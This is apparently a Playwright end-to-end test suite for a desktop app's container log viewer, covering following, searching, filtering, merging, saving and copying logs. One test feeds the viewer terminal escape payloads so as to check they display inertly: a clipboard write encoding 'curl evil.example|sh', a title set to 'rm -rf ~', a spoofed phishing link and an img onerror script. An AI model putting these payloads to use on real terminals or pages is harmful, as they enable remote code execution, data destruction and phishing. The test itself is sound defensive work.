/** The log of a container and of several: followed, searched, filtered, told apart, merged, saved; and harmless. */
import { readFile } from 'node:fs/promises'
import path from 'node:path'
import type { Page } from '@playwright/test'
import type { Docker } from '../support/docker'
import { expect, test, testImages, type OpenWindow } from '../support/fixtures'
import { containersPage } from '../pages/containers-page'
import { logsPage, type LogsPage } from '../pages/logs-page'
import { mainWindow } from '../pages/main-window'

const patience = { timeout: 30_000 }

async function runScript(docker: Docker, name: string, script: string, ...options: readonly string[]) {
  await docker.run('run', '--detach', '--name', name, ...options, testImages.base, 'sh', '-c', script)
}

async function openLog(openWindow: OpenWindow, container: string): Promise<{ page: Page; logs: LogsPage }> {
  const { page } = await openWindow()
  await mainWindow(page).go('Containers')
  await expect(containersPage(page).row(container)).toHaveCount(1, patience)
  const logs = logsPage(page)
  await logs.open(container)
  return { page, logs }
}

test('a log is followed live, its streams told apart, over a stop and a start', async ({
  docker,
  openWindow,
}) => {
  // It writes what it is told to, so that the test decides when.
  await runScript(
    docker,
    'talker',
    `mkfifo /told; echo begun; echo trouble >&2; while true; do read -r word < /told && echo "$word"; done`,
  )
  const say = (word: string) => docker.run('exec', 'talker', 'sh', '-c', `echo ${word} > /told`)
  const { logs } = await openLog(openWindow, 'talker')
  await expect(logs.line('begun')).toHaveCount(1, patience)
  await expect(logs.stderrLines).toHaveText(/trouble/)

  await say('first-word')
  await expect(logs.line('first-word')).toHaveCount(1, patience)

  await logs.stream.selectOption('stderr')
  await expect(logs.line('first-word')).toHaveCount(0, patience)
  await expect(logs.line('trouble')).toHaveCount(1, patience)
  await logs.stream.selectOption('both')
  await expect(logs.line('first-word')).toHaveCount(1, patience)

  await docker.run('kill', 'talker')
  await docker.run('start', 'talker')
  await expect(logs.line('begun')).toHaveCount(2, patience)
  expect((await logs.shown()).filter((text) => text === 'first-word')).toHaveLength(1)
})

test('text and expressions are found, stepped through and filtered by; a hopeless one is stopped', async ({
  docker,
  openWindow,
}) => {
  await runScript(
    docker,
    'shop',
    'seq 1 3000 | sed "s/.*/request & served/"; echo ERROR at request 77; echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!',
  )
  const { logs } = await openLog(openWindow, 'shop')
  await expect(logs.line('aaaa')).toHaveCount(1, patience)

  await logs.search.fill('error')
  await expect(logs.found).toHaveText('1 match', patience)
  await logs.button('Next match').click()
  await expect(logs.found).toHaveText('1 of 1', patience)

  await logs.button('Regular expression').click()
  await logs.search.fill('request 2[89]\\d7 ')
  await expect(logs.found).toHaveText('20 matches', patience)
  await logs.button('Filter').click()
  await expect.poll(() => logs.shown(), patience).toHaveLength(20)
  expect((await logs.shown()).every((text) => /^request 2[89]\d7 served$/.test(text))).toBe(true)
  await logs.button('Filter').click()

  await logs.search.fill('(')
  await expect(logs.found).toHaveText('Not a regular expression', patience)
  await logs.search.fill('(a+)+$')
  await expect(logs.found).toHaveText('Takes too long: stopped', patience)
  await logs.search.fill('served$')
  await expect(logs.found).toHaveText('998 matches', patience)
})

test('a long log begins at its end; what is earlier comes on request, and nothing is lost', async ({
  docker,
  openWindow,
}) => {
  await runScript(docker, 'long', 'seq 1 5000 | sed "s/^/number /"')
  const { page, logs } = await openLog(openWindow, 'long')
  await expect(logs.line(/number 5000$/)).toHaveCount(1, patience)
  await expect(logs.count).toHaveText('1,000 lines', patience)

  await logs.button('Load earlier').click()
  await expect(logs.count).toHaveText('5,000 lines', patience)
  await logs.log.press('Home')
  await expect(logs.line(/number 1$/)).toHaveCount(1, patience)
  await logs.button('Wrap').click()
  await expect(logs.line(/number 1$/)).toHaveCount(1, patience)
  await logs.log.hover()
  await page.mouse.wheel(0, 1800)
  await expect(logs.line(/number 1$/)).toHaveCount(0, patience)
  await logs.log.press('End')
  await expect(logs.line(/number 5000$/)).toBeInViewport(patience)
  await expect(logs.button('Load earlier')).toHaveCount(0)
})

test('the logs of several containers are one list by time', async ({ docker, openWindow }) => {
  for (const word of ['one', 'two', 'three', 'four']) {
    const name = word === 'one' || word === 'three' ? 'left' : 'right'
    if (word === 'one' || word === 'two')
      await runScript(docker, name, 'mkfifo /told; while true; do read -r word < /told && echo "$word"; done')
    await docker.run('exec', name, 'sh', '-c', `until [ -p /told ]; do sleep 0.1; done; echo ${word} > /told`)
    await expect.poll(() => docker.run('logs', name), patience).toContain(word)
  }
  const { page } = await openWindow()
  await mainWindow(page).go('Containers')
  const logs = logsPage(page)
  await logs.openTogether('left', 'right')
  await expect.poll(() => logs.shown(), patience).toEqual(['one', 'two', 'three', 'four'])
  await expect(logs.line('left')).toHaveCount(2)
  await docker.run('exec', 'left', 'sh', '-c', 'echo five > /told')
  await expect.poll(() => logs.shown(), patience).toEqual(['one', 'two', 'three', 'four', 'five'])
})

test('what a log says does nothing but show', async ({ docker, openWindow }) => {
  const hostile = [
    '\\033]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\007\\033]52;c;?\\007 clipboard',
    '\\033]0;rm -rf ~\\007\\033[21t\\033P$q"p\\033\\\\\\033[6n title',
    '\\033]8;;https://evil.example/login\\033\\\\https://github.com/login\\033]8;;\\033\\\\ link',
    '\\033[2J\\033[8mhidden\\rforged <img src=x onerror=alert(1)> \\342\\200\\256reversed',
    '\\033[31mred\\033[0m plain',
  ]
  await runScript(docker, 'hostile', hostile.map((text) => `printf '${text}\\n'`).join('; '))
  const { page, logs } = await openLog(openWindow, 'hostile')
  await expect(logs.line('plain')).toHaveCount(1, patience)
  const title = await page.title()
  const [clipboard, windowTitle, link, forged, colour] = await logs.shown()
  expect(clipboard).toContain('␛]52;c;Y3Vy')
  expect(windowTitle).toContain('␛]0;rm -rf ~␇')
  expect(link).toContain('␛]8;;https://evil.example/login')
  expect(forged).toBe('␛[2Jhidden␍forged <img src=x onerror=alert(1)> <U+202E>reversed')
  expect(colour).toBe('red plain')
  await expect(logs.log.locator('img, a')).toHaveCount(0)
  expect(await page.title()).toBe(title)
})

test('a log is saved to a file and copied, whole', async ({ docker, openWindow, folder }) => {
  await runScript(docker, 'kept', 'seq 1 2500')
  const { electron, page } = await openWindow()
  await mainWindow(page).go('Containers')
  const logs = logsPage(page)
  await logs.open('kept')
  await expect(logs.line(/2500$/)).toHaveCount(1, patience)
  await logs.button('Timestamps').click()

  const target = path.join(folder, 'kept.log')
  await electron.evaluate(({ dialog }, filePath) => {
    dialog.showSaveDialog = () => Promise.resolve({ canceled: false, filePath })
  }, target)
  await logs.button('Save…').click()
  await expect(logs.notice).toContainText('2,500 lines saved', patience)
  expect(await readFile(target, 'utf8')).toBe(`${await docker.run('logs', 'kept')}\n`)

  await logs.button('Copy').click()
  await expect(logs.notice).toHaveText('1,000 lines copied', patience)
  const copied = await electron.evaluate(({ clipboard }) => clipboard.readText())
  expect(copied.split('\n').slice(0, 2)).toEqual(['1501', '1502'])
})

test('a log driver that keeps nothing is told, in the words of the engine', async ({
  docker,
  openWindow,
}) => {
  await runScript(docker, 'mute', 'echo unheard; sleep 1d', '--log-driver', 'none')
  const { page } = await openLog(openWindow, 'mute')
  const alert = mainWindow(page).alerts.filter({ hasText: "The log of mute can't be read" })
  await expect(alert).toContainText('configured logging driver does not support reading', patience)
  await expect(alert).toContainText('--log-driver json-file')
})
